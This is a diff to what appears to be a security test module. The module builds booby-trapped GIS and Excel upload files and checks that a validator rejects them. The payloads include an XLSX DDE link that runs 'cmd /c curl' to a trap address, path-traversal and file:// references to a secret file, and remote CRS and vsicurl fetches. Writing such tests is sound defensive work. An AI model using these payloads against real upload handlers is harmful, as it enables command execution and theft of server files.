@@ -141,8 +141,9 @@ def _gml_links(trap: Trap) -> Iterator[Payload]:
 
 def _prj(trap: Trap) -> Iterator[Payload]:
     sound = members_of(decoy("shp utf-8 with cpg").data)
-    for text in (f"{trap.address}/prj", f"http://opengis.net/def/crs/{trap.address}/0/1", f"+init={trap.secret('txt')}:1",
-                 f"+proj=tmerc +nadgrids={trap.secret('txt')}", f"/vsicurl/{trap.address}/x"):  # fmt: skip
+    address, secret = trap.address, trap.secret("txt")
+    for text in (f"{address}/prj", f"http://opengis.net/def/crs/{address}/0/1", f"+init={secret}:1",
+                 f"+proj=tmerc +nadgrids={secret}", f"/vsicurl/{address}/x"):  # fmt: skip
         members = [(name, text.encode() if name.endswith(".prj") else data) for name, data in sound]
         yield Payload("prj.zip", zipped(*members))
 
@@ -153,7 +154,7 @@ def _dxf_references(trap: Trap) -> Iterator[Payload]:
     foreign = (
         f"  0\nBLOCK\n  8\n0\n  2\nX\n 70\n4\n  1\n{secret}\n  0\nENDBLK\n",
         f"  0\nIMAGEDEF\n  1\n{trap.address}/i.png\n",
-        f"  0\nINSERT\n  8\n项目红线\n  2\nX\n 10\n0\n 20\n0\n",
+        "  0\nINSERT\n  8\n项目红线\n  2\nX\n 10\n0\n 20\n0\n",
         f"  0\nUNDERLAY\n  1\n{trap.address}/u.pdf\n",
     )
     at = sound.index("ENTITIES\n") + len("ENTITIES\n")
@@ -165,11 +166,11 @@ def _xlsx_links(trap: Trap) -> Iterator[Payload]:
     """External links, DDE, and a sheet whose part lies elsewhere."""
     book = dict(members_of(decoy("xlsx").data))
     link = f"<externalLink><ddeLink ddeService='cmd' ddeTopic='/c curl {trap.address}/dde'/></externalLink>"
-    parts = {**book, "xl/externalLinks/externalLink1.xml": link.encode(), "xl/connections.xml":
-             f"<connections><connection><webPr url='{trap.address}/w'/></connection></connections>".encode()}  # fmt: skip
-    yield Payload("linked.xlsx", zipped(*parts.items()), CRS)
-    for mode, target in (("", f"../../../..{trap.secret('txt')}"), (" TargetMode='External'", f"{trap.address}/sheet.xml"),
-                         ("", f"file://{trap.secret('txt')}")):  # fmt: skip
+    web = f"<connections><connection><webPr url='{trap.address}/w'/></connection></connections>"
+    foreign = {"xl/externalLinks/externalLink1.xml": link.encode(), "xl/connections.xml": web.encode()}
+    yield Payload("linked.xlsx", zipped(*{**book, **foreign}.items()), CRS)
+    secret, external = trap.secret("txt"), " TargetMode='External'"
+    for mode, target in (("", f"../../../..{secret}"), (external, f"{trap.address}/sheet.xml"), ("", secret.as_uri())):
         relation = f"<Relationship Id='rId1' Type='worksheet'{mode} Target='{target}'/>"
         parts = {**book, "xl/_rels/workbook.xml.rels": f"<Relationships>{relation}</Relationships>".encode()}
         yield Payload("elsewhere.xlsx", zipped(*parts.items()), CRS)
@@ -183,10 +184,10 @@ ATTACKS = (
     Attack("wfs and wms xml", _wfs, EVERY),
     Attack("connection string", _wfs_prefix, ("plain", "zip")),
     Attack("gdal pipeline", _pipeline, ("plain", "renamed", "zip", "kmz", "gdb")),
-    Attack("json of others", _other_json, ("plain", "renamed", "zip"), codes=("file_broken", "no_area", "format_unknown")),
+    Attack("json of others", _other_json, ("plain", "renamed", "zip"), codes=("file_broken", "no_area")),
     Attack("geojson crs by link", _geojson_crs, ("plain", "zip", "kmz", "gdb", "gpkg"),
            codes=("file_unsafe", "crs_refused")),
-    Attack("xml entities", _entities, ("plain", "renamed", "zip", "nested", "kmz", "xlsx", "gpkg"), codes=("file_unsafe",)),
+    Attack("xml entities", _entities, ("plain", "zip", "nested", "kmz", "xlsx", "gpkg"), codes=("file_unsafe",)),
     Attack("xinclude", _include, ("plain", "kmz"), harmless=True),
     Attack("kml links", _kml_links, ("plain", "kmz", "nested"), harmless=True),
     Attack("gml links", _gml_links, ("plain",), harmless=True),
